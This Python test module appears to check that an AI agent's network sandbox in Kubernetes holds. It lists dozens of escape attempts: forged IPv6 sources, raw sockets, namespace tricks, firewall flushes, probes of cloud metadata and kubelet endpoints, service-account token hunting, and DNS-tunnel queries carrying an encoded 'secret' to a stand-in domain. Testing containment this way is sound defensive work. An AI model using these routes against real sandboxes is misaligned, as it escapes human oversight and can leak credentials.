"""The world outside an agent's pod as the bypass tests need it: who answers, who counts, which ways lead there.

One file at three places. Here its `Outside` starts the rest. In a pod on the node's own network it serves (`serve`):
addresses of documentation and of the cloud's metadata on a device of its own, listeners that answer, and nftables
tables that only count. In an agent's pod and in a pod that nobody fences it tries every way (`try`), each in a process
of its own, and prints what came of each. So but for the standard library nothing is imported here at its beginning.

Two counters. `arrived` is by destination: whatever comes to the addresses outside, with its source. `seen` is by
device: every packet that comes out of a watched pod, whatever source it bears, with protocol and port; only ARP and
IPv6's neighbour discovery are left out, without which nothing marked would get anywhere either. Each way has a port
of its own, so a packet tells which way it took.
"""

from __future__ import annotations

import contextlib
import contextvars
import ctypes
import errno
import json
import mmap
import os
import selectors
import signal
import socket
import ssl
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator, Mapping
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final, Literal

if TYPE_CHECKING:
    from chaperone_tools.kubectl import Kubectl

OUT4: Final = "203.0.113.7"  # RFC 5737
OUT6: Final = "2001:db8:77::7"  # RFC 3849
STRANGER6: Final = "2001:db8:77::9"  # nobody has it
METADATA: Final = "169.254.169.254"
DEVICE: Final = "chap-outside"
TABLE: Final = "chaperone-e2e"
FIRST_PORT: Final = 20_100  # below the ports of Services and of the kernel's own choice
WORD: Final = b"\0\0 outside"  # as an answer to a question of DNS it means: no error
LABEL: Final = b"smuggled"  # first label of every name in a question; eight bytes, which one rule can compare
MARK: Final = 0x63686170
TRY_LIMIT_S: Final = 8.0  # of one way; a timeout of a socket comes first
SOCKET_LIMIT_S: Final = 1.5
PROOF_LIMIT_S: Final = 6.0  # of a socket where an answer is to come; who answers shares the node with everybody
UDP_TRIES: Final = 3  # within that time; a datagram may be lost

SO_MARK, SO_BINDTODEVICE = 36, 25
IP_FREEBIND, IPV6_FREEBIND, IPV6_RTHDR = 15, 78, 57
IPPROTO_UDPLITE, IPPROTO_MPTCP = 136, 262
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000
MS_REMOUNT, MS_BIND = 32, 4096

_socket_limit_s = contextvars.ContextVar("socket_limit_s", default=SOCKET_LIMIT_S)  # of the attempt under way

type Proof = Literal["answer", "packet", ""]
type Try = Callable[[Places], str]


@dataclass(frozen=True)
class Places:
    """Where to; `port` is the way's own."""

    node: str
    database: str
    database_service: str
    api: str
    api_endpoint: str
    api_endpoint_port: int
    virtual: str = "240.240.1.1"
    token: str = ""
    port: int = 0


@dataclass(frozen=True)
class Way:
    """One thing to try.

    Attributes:
        proof: how an unfenced pod shows that there is a way: it gets an answer, or a packet of it is seen; "" where
            such a pod could not go it either, because the kernel refuses it or there is nothing to find.
        marks: what identifies its packets among those seen, beside the way's port.
    """

    name: str
    attempt: Try
    proof: Proof
    port: int
    marks: tuple[tuple[str, int], ...] = ()

    def sent(self, seen: tuple[Packet, ...]) -> tuple[Packet, ...]:
        """Its packets."""
        ports = (socket.IPPROTO_TCP, socket.IPPROTO_UDP, IPPROTO_UDPLITE)
        return tuple(
            one
            for one in seen
            if (one.protocol in ports and one.port == self.port) or (one.target, one.protocol) in self.marks
        )


@dataclass(frozen=True)
class Packet:
    """A kind of packet that was counted; `port` is the second half word of the header where there are no ports."""

    source: str
    target: str
    protocol: int
    port: int
    count: int


@dataclass(frozen=True)
class Seen:
    """What came out of one pod: packets of IP, how many bear `LABEL`, and how many are of anything else."""

    packets: tuple[Packet, ...]
    labels: int
    others: int


@dataclass(frozen=True)
class Result:
    """What came of one way: `reached`, `stopped`, or `broken` when the attempt itself is in error."""

    outcome: str
    said: str
    seconds: float


WAYS: Final[dict[str, Way]] = {}


def way(proof: Proof, *marks: tuple[str, int]) -> Callable[[Try], Try]:
    """Add a way. It returns what it reached and raises OSError when it was stopped."""

    def add(attempt: Try) -> Try:
        name = attempt.__name__.strip("_")
        WAYS[name] = Way(name, attempt, proof, FIRST_PORT + len(WAYS), marks)
        return attempt

    return add


# --- TCP --------------------------------------------------------------------------------------------------------------


@way("answer")
def tcp4(at: Places) -> str:
    return _tcp(OUT4, at.port)


@way("answer")
def tcp6(at: Places) -> str:
    return _tcp(OUT6, at.port)


@way("answer")
def tcp_mapped(at: Places) -> str:
    return _tcp(f"::ffff:{OUT4}", at.port)


@way("answer")
def tcp_node(at: Places) -> str:
    return _tcp(at.node, at.port)


@way("")
def tcp_node_ssh(at: Places) -> str:
    return _tcp(at.node, 22)


@way("answer")
def tcp_metadata(at: Places) -> str:
    return _tcp(METADATA, 80, b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n")


@way("answer")
def database_pod(at: Places) -> str:
    return _postgresql(at.database)


@way("answer")
def database_service(at: Places) -> str:
    return _postgresql(at.database_service)


@way("answer")
def api_service(at: Places) -> str:
    return _https(at.api, 443, "/version", at.token)


@way("answer")
def api_endpoint(at: Places) -> str:
    return _https(at.api_endpoint, at.api_endpoint_port, "/api/v1/namespaces", at.token)


@way("answer")
def kubelet(at: Places) -> str:
    return _https(at.node, 10250, "/pods", at.token)


@way("packet")
def tcp_undeclared_virtual(at: Places) -> str:
    return _tcp("240.240.255.250", at.port)


@way("packet")
def tcp_undeclared_virtual6(at: Places) -> str:
    return _tcp("fd63:6861:7065::fffa", at.port)


@way("packet")
def tcp_declared_address_other_port(at: Places) -> str:
    return _tcp(at.virtual, at.port)


@way("answer")
def tcp_fast_open(at: Places) -> str:
    with socket.socket() as raw:
        # The kernel's own limit; a timeout of Python's does not wait here.
        limit = struct.pack("@qq", *divmod(int(_socket_limit_s.get() * 1e6), 1_000_000))
        for option in (socket.SO_RCVTIMEO, socket.SO_SNDTIMEO):
            raw.setsockopt(socket.SOL_SOCKET, option, limit)
        raw.sendto(b"smuggled", socket.MSG_FASTOPEN, (OUT4, at.port))
        return _answer(raw)


@way("answer")
def mptcp(at: Places) -> str:
    return _tcp(OUT4, at.port, raw=_socket(protocol=IPPROTO_MPTCP))


@way("answer")
def tcp_bound_to_device(at: Places) -> str:
    raw = _socket()
    raw.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, b"eth0")
    return _tcp(OUT4, at.port, raw=raw)


@way("")
def tcp_from_loopback(at: Places) -> str:
    raw = _socket()
    raw.bind(("127.0.0.6", 0))
    return _tcp(OUT4, at.port, raw=raw)


@way("answer")
def tcp_with_low_source_port(at: Places) -> str:
    raw = _socket()
    raw.bind((_own(socket.AF_INET), 53))
    return _tcp(OUT4, at.port, raw=raw)


@way("packet")
def tcp_source_route(at: Places) -> str:
    raw = _socket()
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, _loose_route(at.node))
    return _tcp(OUT4, at.port, raw=raw)


@way("")
def tcp_source_route_by_loopback(at: Places) -> str:
    raw = _socket()
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, _loose_route("127.0.0.1"))
    return _tcp(OUT4, at.port, raw=raw)


@way("answer")
def tcp_to_port_of_dns(at: Places) -> str:
    with _connected(OUT4, 53) as raw:
        raw.sendall(len(_question()).to_bytes(2) + _question())
        return _dns_answer(raw.recv(512)[2:])


@way("answer")
def tcp_as_gateway(at: Places) -> str:
    return _as(0, 64137, at)


@way("answer")
def tcp_as_gateways_ids(at: Places) -> str:
    return _as(64137, 64137, at)


@way("answer")
def tcp_as_opa(at: Places) -> str:
    return _as(64138, 64138, at)


@way("answer")
def tcp_as_istio(at: Places) -> str:
    return _as(1337, 1337, at)


@way("answer")
def tcp_as_nobody(at: Places) -> str:
    return _as(65534, 65534, at)


@way("answer")
def tcp_marked(at: Places) -> str:
    raw = _socket()
    raw.setsockopt(socket.SOL_SOCKET, SO_MARK, MARK)
    return _tcp(OUT4, at.port, raw=raw)


@way("answer")
def http_connect_by_redirect(at: Places) -> str:
    return _tcp(OUT4, at.port, f"CONNECT {OUT4}:{at.port} HTTP/1.1\r\nHost: {OUT4}\r\n\r\n".encode())


@way("")
def http_connect_to_listener(at: Places) -> str:
    return _tcp("127.0.0.1", 15001, f"CONNECT {OUT4}:{at.port} HTTP/1.1\r\nHost: {OUT4}\r\n\r\n".encode())


@way("")
def http_connect_to_declared_address(at: Places) -> str:
    answer = _tcp(at.virtual, 5432, f"CONNECT {OUT4}:{at.port} HTTP/1.1\r\nHost: {OUT4}\r\n\r\n".encode())
    if "HTTP/" not in answer and "outside" not in answer:
        raise ConnectionError(f"no proxy: {answer}")
    return answer


# --- UDP and the others -----------------------------------------------------------------------------------------------


@way("answer")
def udp4(at: Places) -> str:
    return _udp(OUT4, at.port)


@way("answer")
def udp6(at: Places) -> str:
    return _udp(OUT6, at.port)


@way("answer")
def udp_mapped(at: Places) -> str:
    return _udp(f"::ffff:{OUT4}", at.port)


@way("answer")
def udp_node(at: Places) -> str:
    return _udp(at.node, at.port)


@way("answer")
def udp_in_fragments(at: Places) -> str:
    return _udp(OUT4, at.port, b"x" * 4000)


@way("packet")
def udp_broadcast(at: Places) -> str:
    raw = _socket(kind=socket.SOCK_DGRAM)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    return _udp("255.255.255.255", at.port, raw=raw)


@way("packet")
def udp_multicast(at: Places) -> str:
    return _udp("239.7.7.7", at.port)


@way("packet")
def udp_multicast6(at: Places) -> str:
    return _udp(f"ff02::7777%{_device()}", at.port)


@way("packet", ("224.0.0.22", 2))
def igmp_report(at: Places) -> str:
    raw = _socket(kind=socket.SOCK_DGRAM)
    group = socket.inet_aton("239.7.7.8") + socket.inet_aton(_own(socket.AF_INET))
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)
    raise TimeoutError("joined; whether that was told shows outside")


@way("packet", ("ff02::16", socket.IPPROTO_ICMPV6))
def mld_report(at: Places) -> str:
    raw = _socket(socket.AF_INET6, socket.SOCK_DGRAM)
    group = socket.inet_pton(socket.AF_INET6, "ff15::7778") + struct.pack("@I", socket.if_nametoindex(_device()))
    raw.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, group)
    time.sleep(1.2)  # the kernel reports within a second
    raise TimeoutError("joined; whether that was told shows outside")


@way("answer")
def udp_marked(at: Places) -> str:
    raw = _socket(kind=socket.SOCK_DGRAM)
    raw.setsockopt(socket.SOL_SOCKET, SO_MARK, MARK)
    return _udp(OUT4, at.port, raw=raw)


@way("answer")
def udp_marked_by_message(at: Places) -> str:
    with _socket(kind=socket.SOCK_DGRAM) as raw:
        raw.sendmsg([b"x"], [(socket.SOL_SOCKET, SO_MARK, struct.pack("@I", MARK))], 0, (OUT4, at.port))
        return _answer(raw)


@way("answer")
def udp_as_gateway(at: Places) -> str:
    _become(0, 64137)
    return _udp(OUT4, at.port)


@way("answer")
def udp_by_device_in_message(at: Places) -> str:
    with _socket(kind=socket.SOCK_DGRAM) as raw:
        info = struct.pack("@i4s4s", socket.if_nametoindex(_device()), socket.inet_aton(_own(socket.AF_INET)), b"")
        raw.sendmsg([b"x"], [(socket.IPPROTO_IP, socket.IP_PKTINFO, info)], 0, (OUT4, at.port))
        return _answer(raw)


@way("answer")
def udp_lite(at: Places) -> str:
    return _udp(OUT4, at.port, raw=_socket(kind=socket.SOCK_DGRAM, protocol=IPPROTO_UDPLITE))


@way("answer")
def udp_lite6(at: Places) -> str:
    return _udp(OUT6, at.port, raw=_socket(socket.AF_INET6, socket.SOCK_DGRAM, IPPROTO_UDPLITE))


@way("packet")
def udp_routing_header6(at: Places) -> str:
    raw = _socket(socket.AF_INET6, socket.SOCK_DGRAM)
    raw.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, _segments("2001:db8:77::8"))
    return _udp(OUT6, at.port, raw=raw)


@way("")
def udp_routing_header6_by_loopback(at: Places) -> str:
    raw = _socket(socket.AF_INET6, socket.SOCK_DGRAM)
    raw.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, _segments("::1"))
    return _udp(OUT6, at.port, raw=raw)


@way("")
def udp_from_another_address(at: Places) -> str:
    raw = _socket(kind=socket.SOCK_DGRAM)
    raw.setsockopt(socket.IPPROTO_IP, IP_FREEBIND, 1)
    raw.bind((OUT4, at.port))
    return _udp(at.node, at.port, raw=raw)


@way("packet")
def udp_from_another_address6(at: Places) -> str:
    raw = _socket(socket.AF_INET6, socket.SOCK_DGRAM)
    raw.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    raw.bind((STRANGER6, 0))
    return _udp(OUT6, at.port, raw=raw)


@way("packet")
def tcp_from_another_address6(at: Places) -> str:
    """The gateway takes it, and its answer goes to the stranger."""
    with _forged(at.port, socket.SOCK_STREAM, STRANGER6) as forger:
        forger.connect((OUT6, at.port))
        return _answer(forger)


@way("")
def dns_answered_to_another_address6(at: Places) -> str:
    """The gateway refuses, and its answer goes to the stranger, with the name."""
    with _forged(at.port, address=STRANGER6) as forger:
        forger.sendto(_question(), (OUT6, 53))
        return _answer(forger)


@way("answer")
def udp_answering_a_forged_question6(at: Places) -> str:
    """Loopback takes a question that bears a stranger's address; what answers it goes to the stranger."""
    with _forged(at.port) as forger, _socket(socket.AF_INET6, socket.SOCK_DGRAM) as raw:
        raw.bind((_own(socket.AF_INET6), 0))
        forger.sendto(b"?", raw.getsockname()[:2])
        raw.recv(9)
        return _udp(OUT6, at.port, raw=raw)


@way("packet")
def tcp_answering_a_forged_question6(at: Places) -> str:
    with _forged(at.port, socket.SOCK_STREAM) as forger, _socket(socket.AF_INET6) as raw:
        raw.bind((_own(socket.AF_INET6), 0))
        raw.listen()
        forger.connect(raw.getsockname()[:2])
        return "a connection of itself with a stranger's address"


@way("packet")
def reset_for_a_forged_question6(at: Places) -> str:
    with _forged(at.port, socket.SOCK_STREAM, STRANGER6) as forger:
        forger.connect((_own(socket.AF_INET6), 8181))
        return "a connection to OPA with a stranger's address"


@way("packet", (STRANGER6, socket.IPPROTO_ICMPV6))
def icmp_error_for_a_forged_question6(at: Places) -> str:
    with (
        _forged(at.port, address=STRANGER6) as forger,
        _socket(socket.AF_INET6, socket.SOCK_DGRAM) as raw,
    ):
        raw.bind((_own(socket.AF_INET6), 0))
        address = raw.getsockname()[:2]
        raw.close()
        forger.sendto(b"smuggled in the quotation of an error", address)
    raise TimeoutError("sent; whether an error went out shows outside")


@way("answer")
def io_uring(at: Places) -> str:
    with _socket(kind=socket.SOCK_DGRAM) as raw:
        raw.connect((OUT4, at.port))
        _send_by_io_uring(raw.fileno(), b"smuggled")
        return _answer(raw)


@way("answer", (OUT4, socket.IPPROTO_ICMP))
def raw_icmp(at: Places) -> str:
    return _echo(socket.SOCK_RAW)


@way("answer", (OUT6, socket.IPPROTO_ICMPV6))
def raw_icmp6(at: Places) -> str:
    with _socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as raw:
        raw.sendto(bytes((128, 0, 0, 0, 0, 7, 0, 1)), (OUT6, 0))
        return _answer(raw)


@way("")
def ping_socket(at: Places) -> str:
    return _echo(socket.SOCK_DGRAM)


@way("")
def ping_socket6(at: Places) -> str:
    with _socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6) as raw:
        raw.sendto(bytes((128, 0, 0, 0, 0, 7, 0, 1)), (OUT6, 0))
        return _answer(raw)


@way("answer", (OUT4, socket.IPPROTO_ICMP))
def ping_program(at: Places) -> str:
    return _ran("ping", "-c1", "-W1", OUT4)


@way("packet")
def raw_udp(at: Places) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.sendto(_datagram(at.port), (OUT4, 0))
    raise TimeoutError("sent; whether it came shows outside")


@way("packet")
def frame(at: Places) -> str:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((_device(), 0))
        own = bytes.fromhex(Path(f"/sys/class/net/{_device()}/address").read_text().replace(":", ""))
        raw.send(b"\xff" * 6 + own + b"\x08\x00" + _datagram(at.port))
    raise TimeoutError("sent; whether it came shows outside")


@way("packet")
def frame_without_header(at: Places) -> str:
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM) as raw:
        raw.sendto(_datagram(at.port), (_device(), 0x0800, 0, 0, b"\xff" * 6))
    raise TimeoutError("sent; whether it came shows outside")


# --- DNS --------------------------------------------------------------------------------------------------------------


@way("answer")
def dns_of_its_own(at: Places) -> str:
    return _dns(OUT4)


@way("answer")
def dns_of_its_own6(at: Places) -> str:
    return _dns(OUT6)


@way("")
def dns_tunnel(at: Places) -> str:
    lines = Path("/etc/resolv.conf").read_text().splitlines()
    return _dns(next(line.split()[1] for line in lines if line.startswith("nameserver")))


@way("")
def dns_tunnel_by_library(at: Places) -> str:
    return str(socket.getaddrinfo(f"{LABEL.decode()}.7365637265743.tunnel.example.com", 443))


@way("answer")
def dns_of_another_service(at: Places) -> str:
    return str(socket.getaddrinfo("kubernetes.default.svc.cluster.local.", 443))


# --- The gateway and OPA ----------------------------------------------------------------------------------------------


@way("")
def gateways_ports(at: Places) -> str:
    return _any_of(_tcp, [(host, port) for host in _selves() for port in (15001, 15053)])


@way("")
def gateways_dns_by_udp(at: Places) -> str:
    return _any_of(lambda host, port: str(_ask(host, port)), [(host, 15053) for host in _selves()])


@way("")
def opas_port(at: Places) -> str:
    request = b"GET /v1/data HTTP/1.0\r\n\r\n"
    return _any_of(lambda host, port: _tcp(host, port, request), [(host, 8181) for host in _selves()])


@way("answer")
def gateways_place(at: Places) -> str:
    """Listen where the gateway does, to be taken for it."""

    def take(host: str, port: int) -> str:
        kinds = (socket.SOCK_STREAM, socket.SOCK_DGRAM) if port == 15053 else (socket.SOCK_STREAM,)
        for kind in kinds:
            with _socket(_family(host), kind) as raw:
                raw.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                raw.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                raw.bind((host, port))
                if kind == socket.SOCK_STREAM:
                    raw.listen()
        return f"{host}:{port} is free to take"

    return _any_of(take, [(host, port) for host in ("127.0.0.1", "::1") for port in (15001, 15053)])


@way("")
def sockets_without_a_path(at: Places) -> str:
    """Abstract sockets belong to the network namespace, which all containers of a pod share."""
    lines = Path("/proc/net/unix").read_text().splitlines()
    found = [line.split()[-1] for line in lines if line.split()[-1].startswith("@")]
    return _any_of(lambda name, _: _by_unix(name), [(name, 0) for name in found])


@way("")
def processes_of_others(at: Places) -> str:
    words = (b"chaperone-gateway", b"opa\0run", b"CHAPERONE_", b"/opa")
    found = [
        path.parent.name
        for path in (*Path("/proc").glob("[0-9]*/cmdline"), *Path("/proc").glob("[0-9]*/environ"))
        if any(word in _read(path) for word in words) and int(path.parent.name) != os.getpid()
    ]
    return _found(found, "no process of the gateway is to be seen")


@way("")
def signal_to_others(at: Places) -> str:
    """Every process that can be hit or traced is one of this container: it has the same root and the same pids."""
    own, hit = _namespaces("self"), []
    for pid in range(1, 4096):
        try:
            os.kill(pid, 0)
            if _namespaces(str(pid)) != own:
                hit.append(pid)
        except OSError:
            continue
    return _found(hit, "no process of another container can be hit")


def _namespaces(process: str) -> list[Path]:
    return [Path(f"/proc/{process}/ns/{kind}").readlink() for kind in ("pid", "mnt", "user")]


@way("")
def gateways_files(at: Places) -> str:
    names = (
        "/var/run/chaperone/token/token", "/var/run/chaperone", "/var/lib/chaperone", "/run/chaperone",
        "/run/chaperone-bundle", "/run/chaperone-opa", "/run/chaperone-serviceaccount", "/opa",
    )  # fmt: skip
    roots = ["/", *(str(path) for path in Path("/proc").glob("[0-9]*/root"))]
    return _found(
        [name for root in roots for name in names if Path(root, name.lstrip("/")).exists()], "nothing of it is here"
    )


@way("answer")
def service_account(at: Places) -> str:
    """A token that would be worth something has three parts."""
    return _found(
        [str(one) for one in Path("/").glob("var/run/secrets/*/*/token") if one.read_text().count(".") == 2],
        "no token of an account",
    )


@way("")
def trust(at: Places) -> str:
    """Writing to it, over it, or making it writable."""
    folders = (Path("/etc/chaperone-trust"), Path("/run/secrets/kubernetes.io/serviceaccount"))
    tries: list[Callable[[Path], object]] = [
        lambda at: (at / "ca.crt").write_text("mine"),
        lambda at: (at / "new").touch(),
        lambda at: (at / "ca.crt").unlink(),
        lambda at: at.rename(f"{at}.old"),
        lambda at: _call("mount", b"none", bytes(at), None, MS_REMOUNT | MS_BIND, None),
        lambda at: _call("umount2", bytes(at), 2),
    ]
    done = [number for number, one in enumerate(tries) for folder in folders if _does(one, folder)]
    return _found(done, "read-only and bound")


# --- Its own network and its own rights -------------------------------------------------------------------------------


@way("")
def rules_flushed(at: Places) -> str:
    return _ran("nft", "flush", "ruleset")


@way("")
def rules_added(at: Places) -> str:
    return _ran("nft", "add table inet mine { chain c { type filter hook output priority -999; accept; }; }")


@way("")
def device_added(at: Places) -> str:
    return _ran("ip", "link", "add", "mine0", "type", "veth", "peer", "name", "mine1")


@way("")
def device_down(at: Places) -> str:
    return _ran("ip", "link", "set", _device(), "down")


@way("")
def address_added(at: Places) -> str:
    return _ran("ip", "address", "add", "198.51.100.9/32", "dev", _device())


@way("")
def route_added(at: Places) -> str:
    return _ran("ip", "route", "add", "198.51.100.0/24", "dev", _device())


@way("")
def rule_added(at: Places) -> str:
    return _ran("ip", "rule", "add", "fwmark", "1", "table", "7")


@way("")
def neighbour_added(at: Places) -> str:
    return _ran("ip", "neighbour", "add", at.node, "lladdr", "02:00:00:00:00:01", "dev", _device())


@way("")
def queue_added(at: Places) -> str:
    return _ran("tc", "qdisc", "add", "dev", _device(), "clsact")


@way("")
def settings_changed(at: Places) -> str:
    names = ("ipv4/ping_group_range", "ipv4/ip_forward", "ipv4/conf/all/accept_source_route", "ipv6/fwmark_reflect")
    done = [name for name in names if _does(lambda path: path.write_text("1"), Path("/proc/sys/net", name))]
    return _found(done, "/proc/sys is read-only")


@way("")
def network_of_its_own(at: Places) -> str:
    _call("unshare", CLONE_NEWNET)
    return _tcp(OUT4, at.port)


@way("")
def network_of_its_own_as_another_user(at: Places) -> str:
    _be_root_of_its_own(CLONE_NEWNET)
    subprocess.run(["ip", "link", "set", "lo", "up"], capture_output=True, check=False)
    return _any_of(_tcp, [(OUT4, at.port), (OUT6, at.port)])


@way("")
def mark_as_root_of_its_own_users(at: Places) -> str:
    _be_root_of_its_own(0)
    raw = _socket()
    raw.setsockopt(socket.SOL_SOCKET, SO_MARK, MARK)
    return _tcp(OUT4, at.port, raw=raw)


@way("")
def raw_socket_as_root_of_its_own_users(at: Places) -> str:
    _be_root_of_its_own(0)
    return _echo(socket.SOCK_RAW)


@way("")
def rules_flushed_as_root_of_its_own_users(at: Places) -> str:
    _be_root_of_its_own(0)
    return _ran("nft", "flush", "ruleset")


@way("")
def trust_remounted_as_root_of_its_own_users(at: Places) -> str:
    _be_root_of_its_own(CLONE_NEWNS)
    _call("mount", b"none", b"/etc/chaperone-trust", None, MS_REMOUNT | MS_BIND, None)
    Path("/etc/chaperone-trust/new").touch()
    return "the trust volume is writable"


# --- What the ways are made of ----------------------------------------------------------------------------------------


def _family(host: str) -> socket.AddressFamily:
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def _socket(family: int = socket.AF_INET, kind: int = socket.SOCK_STREAM, protocol: int = 0) -> socket.socket:
    raw = socket.socket(family, kind, protocol)
    raw.settimeout(_socket_limit_s.get())
    return raw


def _connected(host: str, port: int, raw: socket.socket | None = None) -> socket.socket:
    raw = raw or _socket(_family(host))
    try:
        raw.connect((host, port))
    except OSError:
        raw.close()
        raise
    return raw


def _answer(raw: socket.socket) -> str:
    answer = raw.recv(512)
    if not answer:
        raise ConnectionError("closed without an answer")
    return repr(answer)


def _tcp(host: str, port: int, words: bytes = b"smuggled", raw: socket.socket | None = None) -> str:
    with _connected(host, port, raw) as connection:
        connection.sendall(words)
        return _answer(connection)


def _udp(host: str, port: int, words: bytes = b"smuggled", raw: socket.socket | None = None) -> str:
    with raw or _socket(_family(host), socket.SOCK_DGRAM) as connection:
        connection.settimeout(_socket_limit_s.get() / UDP_TRIES)
        for _ in range(UDP_TRIES):
            connection.sendto(words, (host, port))
            with contextlib.suppress(TimeoutError):
                return _answer(connection)
    raise TimeoutError("no answer")


def _postgresql(host: str) -> str:
    return _tcp(host, 5432, bytes.fromhex("0000000804d2162f"))  # SSLRequest, answered with one byte


def _https(host: str, port: int, path: str, token: str) -> str:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE  # whoever it is
    with context.wrap_socket(_connected(host, port)) as secured:
        secured.sendall(f"GET {path} HTTP/1.0\r\nAuthorization: Bearer {token}\r\n\r\n".encode())
        return secured.recv(64).split(b"\r\n")[0].decode()


def _question() -> bytes:
    """A question for a TXT record of a name that says something."""
    labels = (LABEL, b"7365637265742d6f662d7468652d6167656e74", b"tunnel", b"example", b"com")
    name = b"".join(len(label).to_bytes() + label for label in labels) + b"\0"
    return bytes.fromhex("beef01000001000000000000") + name + bytes.fromhex("00100001")


def _ask(host: str, port: int) -> bytes:
    with _connected(host, port, _socket(_family(host), socket.SOCK_DGRAM)) as raw:
        raw.send(_question())
        return raw.recv(512)


def _dns(host: str) -> str:
    return _dns_answer(_ask(host, 53))


def _dns_answer(answer: bytes) -> str:
    if len(answer) > 3 and answer[:2] == _question()[:2] and answer[3] & 15 == 5:
        raise ConnectionError("REFUSED")
    return repr(answer)


def _as(user: int, group: int, at: Places) -> str:
    _become(user, group)
    return _tcp(OUT4, at.port)


def _become(user: int, group: int) -> None:
    os.setgroups([group])
    os.setresgid(group, group, group)
    os.setresuid(user, user, user)


def _own(family: int) -> str:
    """The pod's address: of what would be sent outside."""
    with socket.socket(family, socket.SOCK_DGRAM) as raw:
        raw.connect((OUT4 if family == socket.AF_INET else OUT6, 9))
        return str(raw.getsockname()[0])


def _selves() -> tuple[str, ...]:
    return ("127.0.0.1", "127.0.0.6", "0.0.0.0", "::1", "::ffff:127.0.0.1", _own(socket.AF_INET), _own(socket.AF_INET6))


def _device() -> str:
    return next(path.name for path in sorted(Path("/sys/class/net").iterdir()) if path.name != "lo")


def _loose_route(hop: str) -> bytes:
    return bytes((131, 7, 4)) + socket.inet_aton(hop) + b"\x01"


def _segments(hop: str) -> bytes:
    """RFC 8754: the last segment is filled in by the kernel, the first is where the packet goes at once."""
    return bytes((0, 4, 4, 1, 1, 0, 0, 0)) + bytes(16) + socket.inet_pton(socket.AF_INET6, hop)


@contextlib.contextmanager
def _forged(port: int, kind: int = socket.SOCK_DGRAM, address: str = OUT6) -> Iterator[socket.socket]:
    """A socket that bears a stranger's address: IPv6 lets anybody send from it."""
    with _socket(socket.AF_INET6, kind) as raw:
        raw.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
        raw.bind((address, port))
        yield raw


def _echo(kind: int) -> str:
    with _socket(kind=kind, protocol=socket.IPPROTO_ICMP) as raw:
        raw.sendto(struct.pack("!BBHHH", 8, 0, 0xF7F7, 7, 1), (OUT4, 0))
        return _answer(raw)


def _datagram(port: int) -> bytes:
    """IP header and all, from this pod to the listener."""
    words = b"smuggled"
    source, target = socket.inet_aton(_own(socket.AF_INET)), socket.inet_aton(OUT4)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(words), 7, 0, 64, 17, 0, source, target)
    total = sum(struct.unpack("!10H", header))
    total = (total & 0xFFFF) + (total >> 16)
    header = header[:10] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + header[12:]
    return header + struct.pack("!HHHH", 40_000, port, 8 + len(words), 0) + words


def _by_unix(name: str) -> str:
    with _socket(socket.AF_UNIX) as raw:
        raw.connect("\0" + name[1:])
        return name


def _any_of(attempt: Callable[[str, int], str], places: list[tuple[str, int]]) -> str:
    """Whatever one of several places gives, else why each of them gave nothing."""
    reasons = []
    for host, port in places:
        try:
            return f"{host} {port}: {attempt(host, port)}"
        except OSError as error:
            reasons.append(f"{host} {port}: {_reason(error)}")
    raise ConnectionError("; ".join(reasons) or "no such place")


def _does(attempt: Callable[[Path], object], path: Path) -> bool:
    try:
        attempt(path)
    except OSError:
        return False
    return True


def _found(found: list[Any], nothing: str) -> str:
    if not found:
        raise ConnectionError(nothing)
    return str(found)


def _read(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""


def _ran(*command: str) -> str:
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    if done.returncode:
        raise PermissionError((done.stdout + done.stderr).strip()[-300:])
    return f"done: {' '.join(command)}"


def _call(name: str, *arguments: Any) -> None:
    """A function of the C library that tells errors by errno."""
    library = ctypes.CDLL(None, use_errno=True)
    if getattr(library, name)(*arguments):
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number), name)


def _be_root_of_its_own(more: int) -> None:
    """Root with all capabilities, in a user namespace that has nothing but what is made in it."""
    _call("unshare", CLONE_NEWUSER | more)
    Path("/proc/self/uid_map").write_text("0 0 1")


def _send_by_io_uring(descriptor: int, words: bytes) -> None:
    """Send without the system call for it (io_uring(7)); `IORING_OP_SEND` through a ring of one entry."""
    library = ctypes.CDLL(None, use_errno=True)
    parameters = ctypes.create_string_buffer(120)
    ring = library.syscall(425, 4, parameters)
    if ring < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()), "io_uring_setup")
    values = struct.unpack("30I", parameters.raw)
    submission, completion = values[10:20], values[20:30]
    shared = (mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
    entries = mmap.mmap(ring, 64 * values[0], *shared, offset=0x10000000)
    queue = mmap.mmap(ring, submission[6] + 4 * values[0], *shared, offset=0)
    done = mmap.mmap(ring, completion[5] + 16 * values[1], *shared, offset=0x8000000)
    buffer = ctypes.create_string_buffer(words, len(words))
